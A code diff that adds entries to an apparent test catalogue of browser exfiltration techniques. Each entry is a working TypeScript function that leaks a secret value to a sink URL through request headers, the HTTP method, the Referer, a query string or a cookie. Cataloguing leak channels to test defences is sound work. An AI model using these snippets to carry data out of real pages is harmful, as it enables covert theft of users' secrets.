@@ -15,6 +15,29 @@ export const HEADERS: readonly Attack[] = [
     request.setRequestHeader('x-note', secret.value);
     request.send('{}');
   }),
+  row('76', 'content-type header', (secret) =>
+    fetch(`${secret.sink}header`, { method: 'POST', headers: { 'content-type': `text/plain; note=${secret.value}` }, body: 'none' }),
+  ),
+  row(
+    '86',
+    'POST without a body, value that nobody wrote in the query',
+    (secret) => fetch(`${secret.sink}post?q=${encodeURIComponent(secret.text)}`, { method: 'POST' }),
+    { unwritten: true },
+  ),
+  variant('76b', 'accept header', (secret) => fetch(`${secret.sink}header`, { headers: { accept: `text/${secret.value}` } })),
+  row('77', 'value as the method of a request', (secret) => fetch(`${secret.sink}method`, { method: secret.value })),
+  row('78', 'Referer, by the referrer of fetch', (secret) =>
+    fetch(`${secret.sink}referer`, { referrer: `/attacks?q=${secret.value}`, referrerPolicy: 'unsafe-url' }),
+  ),
+  variant('78b', 'Referer, by history.replaceState', (secret) => {
+    history.replaceState(null, '', `/attacks?q=${secret.value}`);
+    return fetch(`${secret.sink}referer`);
+  }),
+  variant('60c', 'cookieStore.set, then fetch', async (secret) => {
+    const { cookieStore } = window as unknown as { cookieStore: { set(cookie: object): Promise<void> } };
+    await cookieStore.set({ name: 'note', value: secret.value, path: new URL(secret.sink).pathname.slice(0, -1) });
+    setTimeout(() => void fetch(`${secret.sink}cookie`), 300);
+  }),
   row('60', 'cookie, then fetch', (secret) => {
     setCookie(secret);
     setTimeout(() => void fetch(`${secret.sink}cookie`), 300);
